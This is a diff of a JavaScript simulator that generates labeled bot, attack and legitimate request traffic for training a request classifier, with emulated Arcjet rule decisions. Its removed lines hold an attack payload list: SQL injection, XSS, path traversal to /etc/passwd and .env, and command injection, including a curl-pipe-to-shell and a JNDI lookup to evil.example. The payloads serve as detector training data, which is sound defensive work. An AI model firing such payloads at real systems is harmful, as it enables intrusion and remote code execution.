@@ -1,25 +1,17 @@
 // Seeded simulator of labeled request traffic: request, app context, the rule decision as Arcjet
-// would shape it, the scenario and its labels (bot / attack / abuse; none = legitimate).
+// makes it (its real local rules; its cloud rules after its documented behavior), the scenario and
+// its labels (bot / attack / abuse; none = legitimate).
 //
-//   node scripts/simulate.mjs --n 100000 --seed 7 --pool train --out corpus.jsonl
+//   npx request-refiner simulate --n 100000 --seed 7 --pool train --out corpus.jsonl
 //
-// Real public data: browser user agents with market shares (user-agents), crawler and tool user
-// agents (crawler-user-agents), disposable and free email domains. `--pool train|eval` splits every
-// list by a hash of its entries (80/20), so an evaluation corpus holds clients and domains that
-// training never saw. Rules are emulated after Arcjet's documented behavior, with their real
-// failure modes: a bot list that misses unknown bots, a WAF that trips on O'Brien, rate limits
-// that block whole offices, an email check that only knows listed disposable domains.
-import { createHash } from 'node:crypto'
-import { createWriteStream, readFileSync } from 'node:fs'
-import { dirname, join } from 'node:path'
-import { parseArgs } from 'node:util'
+// Clients, domains and payloads come from public lists (./data.mjs), split into a training and an
+// evaluation pool. The rules fail the way real rules fail: the bot list misses unknown bots, the
+// WAF trips on O'Brien, rate limits block whole offices, sensitive-info blocks a customer who
+// leaves a phone number, the email check only knows listed disposable domains.
 import { uniformFloat64 } from 'pure-rand/distribution/uniformFloat64'
 import { xoroshiro128plus } from 'pure-rand/generator/xoroshiro128plus'
-
-const root = join(dirname(new URL(import.meta.url).pathname), '..')
-const readJson = (path) => JSON.parse(readFileSync(join(root, 'node_modules', path), 'utf8'))
-const listFile = (name) =>
-  readFileSync(join(root, 'crates/refiner-core/data', name), 'utf8').split('\n').filter((l) => l && !l.startsWith('#'))
+import { createArcjet } from './arcjet.mjs'
+import { loadPools } from './data.mjs'
 
 /** Scenario → [weight, labels]. Legitimate traffic dominates, as in real life. */
 export const SCENARIOS = {
@@ -31,6 +23,7 @@ export const SCENARIOS = {
   legit_shared_ip: [6, {}],
   legit_privacy: [4, {}],
   legit_waf_trip: [3, {}],
+  legit_support: [3, {}],
   legit_new_device: [3, {}],
   good_bot: [3, {}],
   scraper_headless: [5, { bot: true }],
@@ -66,36 +59,6 @@ function gauss(u) {
   return Math.sqrt(-2 * Math.log(1 - u())) * Math.cos(2 * Math.PI * u())
 }
 
-const inPool = (pool) => (s) => {
-  if (pool === 'all') return true
-  const h = createHash('sha1').update(String(s)).digest()[0]
-  return pool === 'eval' ? h < 51 : h >= 51
-}
-
-function loadPools(pool) {
-  const keep = inPool(pool)
-  const browsers = readJson('user-agents/dist/user-agents.json').filter((b) => keep(b.userAgent))
-  const crawlers = readJson('crawler-user-agents/crawler-user-agents.json').filter((c) => c.instances?.length && keep(c.pattern))
-  const searchEngines = crawlers.filter((c) => /google|bing|duckduck|applebot|yandex|baidu/i.test(c.pattern))
-  return {
-    browsers,
-    crawlers,
-    searchEngines: searchEngines.length ? searchEngines : crawlers.slice(0, 5),
-    disposable: listFile('disposable-domains.txt').filter(keep),
-    // Arcjet knows every listed disposable domain, in either pool.
-    disposableKnown: new Set(listFile('disposable-domains.txt')),
-    free: ['gmail.com', 'yahoo.com', 'outlook.com', 'hotmail.com', 'icloud.com', 'aol.com', 'proton.me', 'gmx.de', 'yandex.ru', 'mail.ru'],
-    freeTail: listFile('free-providers.txt').filter(keep),
-  }
-}
-
-// Hand-written here; the training issue replaces them with payloads from a public package.
-const PAYLOADS = {
-  sqli: ["' OR '1'='1", "1' UNION SELECT username, password FROM users--", "1; DROP TABLE orders", "admin'--", "1 AND SLEEP(5)", "' or 1=1 limit 1 -- -+"],
-  xss: ['<script>alert(1)</script>', '"><img src=x onerror=alert(document.cookie)>', "javascript:alert('x')", '<svg onload=alert(1)>'],
-  traversal: ['../../../../etc/passwd', '..%2F..%2F..%2Fetc%2Fpasswd', '....//....//windows/win.ini', '/.env', '/.git/config'],
-  command: ['; cat /etc/passwd', '$(curl http://evil.example/x.sh | sh)', '| id', '`whoami`', '${jndi:ldap://evil.example/a}'],
-}
 const TOOL_UAS = ['curl/8.5.0', 'python-requests/2.31.0', 'Go-http-client/1.1', 'axios/1.6.7', 'Wget/1.21.4', 'okhttp/4.12.0', 'Java/17.0.9', 'node-fetch/1.0', 'PostmanRuntime/7.36.0', 'python-httpx/0.27.0']
 // Bots no list knows: names made up per request, the kind rules miss.
 const unknownBotUa = (r) => r.pick([
@@ -107,6 +70,10 @@ const unknownBotUa = (r) => r.pick([
 const APP_UAS = ['ShopApp/4.2.1 (iPhone; iOS 17.5; Scale/3.00)', 'ShopApp/4.1.0 (Android 14; Pixel 8)', 'okhttp/4.12.0', 'Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)']
 
 const FIRST = ['anna', 'john', 'maria', 'li', 'ahmed', 'sofia', 'lucas', 'emma', 'noah', 'olivia', 'mia', 'liam', 'sean', 'chloe', 'yuki', 'ines']
+// Reserved-for-fiction (555-01xx) and documentation-style numbers in the formats people type.
+const PHONES = ['+1 415 555 0100', '(212) 555-0147', '+44 20 7946 0958', '+49 30 901820', '06 12 34 56 78', '+1-202-555-0173', '415.555.0123']
+// Texts vary by a few numbers only: Arcjet's verdicts are memoized per body (see ./arcjet.mjs).
+const ORDERS = ['10482', '23119', '31877', '40215', '52764', '66930', '71308', '85541', '90026', '11873', '27450', '39912']
 const LAST = ['smith', 'garcia', 'obrien', 'muller', 'rossi', 'nguyen', 'kowalski', 'silva', 'kim', 'dubois', 'oconnor', 'patel']
 
 function humanEmail(r, pools) {
@@ -186,7 +153,8 @@ function humanContext(r, route, { fresh = false } = {}) {
     emailVerified: route !== 'signup' && r.chance(0.9),
     loggedIn: route === 'checkout' || route === 'api' ? r.chance(0.8) : route === 'other' && r.chance(0.4),
   }
-  if (route === 'signup' || route === 'login' || route === 'checkout') c.formFillMs = Math.round(r.logn(route === 'login' ? 6000 : 25000, 0.6))
+  // Password managers and browser autofill make honest forms fast too.
+  if (route === 'signup' || route === 'login' || route === 'checkout') c.formFillMs = Math.round(r.chance(0.15) ? r.logn(1200, 0.6) : r.logn(route === 'login' ? 6000 : 25000, 0.6))
   if (route === 'checkout') Object.assign(c, { cartValue: Math.round(r.logn(60, 0.9) * 100) / 100, paymentAttempts: r.chance(0.9) ? 1 : r.int(2, 3) })
   return c
 }
@@ -216,7 +184,7 @@ function thin(r, ctx) {
   return ctx
 }
 
-function makeSample(r, pools, scenario, difficulty) {
+function makeSample(r, pools, arcjet, scenario, difficulty) {
   const hard = r.chance(difficulty)
   const browserUa = () => r.weighted(pools.browsers, (b) => b.weight).userAgent
   let s
@@ -252,10 +220,22 @@ function makeSample(r, pools, scenario, difficulty) {
       // O'Brien in a name field, code pasted into a support form: the WAF trips.
       const route = r.pick(['other', 'signup', 'checkout'])
       s = { net: { kind: 'public', requests: r.int(1, 8) }, route, ua: browserUa(), ctx: humanContext(r, route), returning: true, method: 'POST',
-        body: r.pick([`Hi, I'm ${r.pick(['Sean', 'Mary', 'Liam'])} O'${r.pick(['Brien', 'Connor', 'Neill'])}, order #${r.int(1000, 9999)} never arrived`,
+        body: r.pick([`Hi, I'm ${r.pick(['Sean', 'Mary', 'Liam'])} O'${r.pick(['Brien', 'Connor', 'Neill'])}, order #${r.pick(ORDERS)} never arrived`,
           'My script fails: SELECT * FROM orders WHERE id = 1; -- what is wrong?', 'The page shows <script> tags in the product description & "quotes"',
-          "Name: D'Angelo; Address: 12 Rue de l'Église", 'Error: cat: /etc/hosts: permission denied when running your CLI']),
+          "Name: D'Angelo; Address: 12 Rue de l'Église", 'Error: cat: /etc/hosts: permission denied when running your CLI',
+          `Product review: ${r.pick(pools.benignText)}`]),
         shieldFp: true }
+      break
+    }
+    case 'legit_support': {
+      // A support or contact form: people leave phone numbers, order numbers, odd characters.
+      s = { net: { kind: r.chance(0.2) ? 'v6' : 'public', requests: r.int(1, 10) }, route: 'other', ua: browserUa(), ctx: humanContext(r, 'other'), returning: r.chance(0.8), method: 'POST',
+        body: r.pick([
+          () => `Please call me back on ${r.pick(PHONES)} about order ${r.pick(ORDERS)}`,
+          () => `Name: ${r.pick(FIRST)} ${r.pick(LAST)}. Message: ${r.pick(pools.benignText)}`,
+          () => `Wrong size delivered, can I swap it? Thanks, ${r.pick(FIRST)}`,
+          () => `My card ending ${r.pick(ORDERS).slice(-4)} was charged twice`,
+        ])() }
       break
     }
     case 'legit_new_device': {
@@ -265,8 +245,10 @@ function makeSample(r, pools, scenario, difficulty) {
       break
     }
     case 'good_bot': {
-      const c = r.pick(pools.searchEngines)
-      s = { net: { kind: 'public', hosting: true, requests: r.int(5, 60) }, route: 'other', ua: r.pick(c.instances), tool: true, verified: true, ctx: undefined }
+      // Search engines (verified by ip), link previews and uptime monitors: wanted automation.
+      const search = r.chance(0.7)
+      const c = r.pick(search ? pools.searchEngines : pools.linkPreviews)
+      s = { net: { kind: 'public', hosting: true, requests: r.int(5, 60) }, route: 'other', ua: r.pick(c.instances), tool: true, verified: search, ctx: undefined }
       break
     }
     case 'scraper_headless': {
@@ -302,22 +284,22 @@ function makeSample(r, pools, scenario, difficulty) {
       break
     }
     case 'injection_probe': {
-      const kind = r.pick(Object.keys(PAYLOADS))
-      const payload = r.pick(PAYLOADS[kind])
+      const kind = r.pick(Object.keys(pools.payloads))
+      const payload = r.pick(pools.payloads[kind])
       const inBody = r.chance(0.4)
       const toolUa = r.chance(hard ? 0.2 : 0.6)
       s = { net: { kind: 'public', hosting: r.chance(0.5), tor: r.chance(0.1), requests: r.int(1, 80) }, route: r.pick(['other', 'login', 'signup', 'api']), ua: toolUa ? r.pick([...TOOL_UAS, 'sqlmap/1.8', 'Nikto/2.5.0', '']) : browserUa(), tool: toolUa,
-        method: inBody ? 'POST' : 'GET', body: inBody ? `q=${payload}` : undefined, payload: inBody ? undefined : (kind === 'traversal' ? `/static/${payload}` : `/search?q=${encodeURIComponent(payload)}`), ctx: botContext(r, 'other', hard), injection: true }
+        method: inBody ? 'POST' : 'GET', body: inBody ? `q=${payload}` : undefined, payload: inBody ? undefined : (kind === 'traversal' ? `/static/${payload}` : `/search?q=${encodeURIComponent(payload)}`), ctx: botContext(r, 'other', hard), payloadKind: kind }
       break
     }
     default:
       throw new Error(`unknown scenario ${scenario}`)
   }
-  return render(r, s, scenario, pools)
+  return render(r, s, scenario, pools, arcjet)
 }
 
 /** Turns a scenario sketch into request + context + Arcjet-shaped decision. */
-function render(r, s, scenario, pools) {
+async function render(r, s, scenario, pools, arcjet) {
   const ua = s.ua ?? ''
   // Browsers also fetch data without navigating, and proxies or privacy tools drop headers of
   // real users too: no single header may separate people from programs.
@@ -330,7 +312,7 @@ function render(r, s, scenario, pools) {
   const context = s.ctx ? thin(r, { ...s.ctx, route: s.ctx.route === 'other' ? s.route : s.ctx.route }) : undefined
   if (context && s.route !== 'other') context.route = s.route
   // Some apps run the refiner without Arcjet; local decisions carry an empty ip.
-  const decision = r.chance(0.12) ? undefined : rules(r, s, request, pools)
+  const decision = r.chance(0.12) ? undefined : await arcjet.decide(s, request, r, pools)
   if (decision && r.chance(0.2)) decision.ip = {}
   return { scenario, labels: labels(scenario), request, ...(context ? { context } : {}), ...(decision ? { decision } : {}) }
 }
@@ -340,82 +322,52 @@ const labels = (scenario) => {
   return { bot: !!l.bot, attack: !!l.attack, abuse: !!l.abuse }
 }
 
-const knownToArcjet = (ua, fromCrawlerList) => {
-  // Arcjet's local list catches about two thirds of crawler patterns (all instances of a pattern or none),
-  // the well-known HTTP libraries, and HeadlessChrome; not browsers, made-up names or empty agents.
-  if (!ua) return false
-  if (/curl|python-requests|go-http-client|axios|wget|java\/|okhttp|headlesschrome|sqlmap|nikto|postman|node-fetch|httpx/i.test(ua)) return true
-  return fromCrawlerList && createHash('sha1').update(ua.replace(/[\d.]+/g, '')).digest()[1] < 166
-}
-
-/** The rule decision, emulating detectBot + shield + fixedWindow (+ validateEmail on sign-up). */
-function rules(r, s, request, pools) {
-  if (r.chance(0.01)) {
-    return { conclusion: 'ERROR', reason: { type: 'ERROR', message: 'timeout' }, results: [], ip: {} }
+/**
+ * Generates `n` labeled samples; same options, same samples.
+ * `difficulty` (0–1) is the share of threats that imitate people: browser user agents, residential
+ * ips, human-looking sessions. `mix` overrides scenario weights by name (0 removes a scenario).
+ */
+export async function* simulate({ n, seed = 7, pool = 'all', difficulty = 0.3, mix = {} }) {
+  if (!Number.isInteger(n) || n < 0) throw new RangeError(`n must be a non-negative integer, not ${n}`)
+  if (!(difficulty >= 0 && difficulty <= 1)) throw new RangeError(`difficulty must be between 0 and 1, not ${difficulty}`)
+  for (const [name, w] of Object.entries(mix)) {
+    if (!(name in SCENARIOS)) throw new RangeError(`unknown scenario "${name}" in mix; known: ${Object.keys(SCENARIOS).join(', ')}`)
+    if (!(w >= 0)) throw new RangeError(`mix weight of ${name} must be a number ≥ 0, not ${w}`)
   }
-  const results = []
-  const add = (conclusion, reason) => results.push({ ruleId: '', fingerprint: '', ttl: 0, state: 'RUN', conclusion, reason })
-  const ua = request.headers['user-agent'] ?? ''
-  const caught = !s.verified && knownToArcjet(ua, s.crawler) && !(s.route === 'api' && APP_UAS.includes(ua))
-  const spoofed = !s.verified && /googlebot|bingbot/i.test(ua) && r.chance(0.9)
-  add(caught || spoofed ? 'DENY' : 'ALLOW', { type: 'BOT', allowed: s.verified ? ['GOOGLE_CRAWLER'] : [], denied: caught ? ['AUTOMATED'] : [], verified: !!s.verified, spoofed })
-  const shield = s.injection ? r.chance(0.85) : s.shieldFp ? r.chance(0.6) : r.chance(0.002)
-  add(shield ? 'DENY' : 'ALLOW', { type: 'SHIELD', shieldTriggered: shield })
-  const max = 60
-  const remaining = Math.max(0, max - s.net.requests)
-  add(remaining === 0 ? 'DENY' : 'ALLOW', { type: 'RATE_LIMIT', max, remaining, window: 60, reset: r.int(1, 60) })
-  if (request.email && s.route === 'signup') {
-    const domain = request.email.split('@')[1] ?? ''
-    const types = []
-    if (pools.disposableKnown.has(domain)) types.push('DISPOSABLE')
-    if (pools.free.includes(domain)) types.push('FREE')
-    if (/^[a-z0-9]{7}mail\.(com|net|xyz)$/.test(domain) && r.chance(0.5)) types.push('NO_MX_RECORDS')
-    add(types.some((t) => t !== 'FREE') ? 'DENY' : 'ALLOW', { type: 'EMAIL', emailTypes: types })
-  }
-  const denied = results.find((x) => x.conclusion === 'DENY')
-  const ipDetails = s.net.kind === 'private' ? {} : {
-    country: r.pick(['US', 'DE', 'FR', 'GB', 'BR', 'IN', 'JP']),
-    isHosting: !!s.net.hosting && r.chance(0.9),
-    isVpn: !!s.net.vpn && r.chance(0.8),
-    isProxy: !!s.net.proxy && r.chance(0.6),
-    isTor: !!s.net.tor && r.chance(0.95),
-    isRelay: !!s.net.relay,
-    isAbuser: !!(s.net.hosting || s.net.proxy) && r.chance(0.1),
-  }
-  return { conclusion: denied ? 'DENY' : 'ALLOW', reason: denied ? denied.reason : { type: 'RATE_LIMIT', ...results[2].reason }, results, ip: ipDetails }
-}
-
-/** Generates `n` labeled samples; same seed, same samples. */
-export function* simulate({ n, seed = 7, pool = 'all', difficulty = 0.3, mix = SCENARIOS }) {
+  const weights = Object.fromEntries(Object.entries(SCENARIOS).map(([k, [w]]) => [k, mix[k] ?? w]))
+  const names = Object.keys(weights).filter((k) => weights[k] > 0)
+  if (!names.length) throw new RangeError('mix leaves no scenario with a positive weight')
   const r = rngFrom(seed)
   const pools = loadPools(pool)
-  const names = Object.keys(mix)
+  const arcjet = await createArcjet()
   for (let i = 0; i < n; i++) {
-    const scenario = r.weighted(names, (k) => mix[k][0])
-    yield makeSample(r, pools, scenario, difficulty)
+    const scenario = r.weighted(names, (k) => weights[k])
+    yield await makeSample(r, pools, arcjet, scenario, difficulty)
   }
 }
 
-if (import.meta.url === `file://${process.argv[1]}`) {
-  const { values } = parseArgs({
-    options: {
-      n: { type: 'string', default: '10000' },
-      seed: { type: 'string', default: '7' },
-      pool: { type: 'string', default: 'all' },
-      difficulty: { type: 'string', default: '0.3' },
-      out: { type: 'string' },
-    },
-  })
-  if (!['train', 'eval', 'all'].includes(values.pool)) throw new RangeError(`--pool must be train, eval or all, not ${values.pool}`)
-  const out = values.out ? createWriteStream(values.out) : process.stdout
-  const n = Number(values.n)
+/** Parses `name=weight,name=weight` into a mix. */
+export function parseMix(text) {
+  const mix = {}
+  for (const part of (text ?? '').split(',').filter(Boolean)) {
+    const [name, w] = part.split('=')
+    mix[name.trim()] = Number(w)
+  }
+  return mix
+}
+
+/** Writes `simulate(options)` as JSONL to `out` (a writable stream); resolves to the sample count. */
+export async function writeCorpus(out, options) {
   let buf = ''
-  for (const s of simulate({ n, seed: Number(values.seed), pool: values.pool, difficulty: Number(values.difficulty) })) {
+  let n = 0
+  for await (const s of simulate(options)) {
     buf += `${JSON.stringify(s)}\n`
+    n++
     if (buf.length > 1 << 20) {
       if (!out.write(buf)) await new Promise((ok) => out.once('drain', ok))
       buf = ''
     }
   }
-  out.end(buf)
+  await new Promise((ok, fail) => out.end(buf, (e) => (e ? fail(e) : ok())))
+  return n
 }
